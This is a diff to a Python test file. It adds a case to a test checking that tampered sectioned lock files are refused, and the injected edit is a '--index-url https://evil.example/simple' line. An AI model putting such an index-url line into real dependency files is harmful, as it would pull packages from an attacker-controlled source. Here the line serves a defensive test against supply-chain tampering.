@@ -153,6 +153,11 @@ def test_a_lock_of_one_target_is_one_unnamed_section() -> None:
             "profile belongs in the shared header",
         ),
         ("# target-cuda: 12.6", "# target-cuda: twelve", "section cluster: line"),
+        (
+            "\n\n# [target nb]",
+            "\n--index-url https://evil.example/simple\n\n# [target nb]",
+            "an index line before the first",
+        ),
     ],
 )
 def test_edited_sectioned_locks_are_refused(old: str, new: str, message: str) -> None:
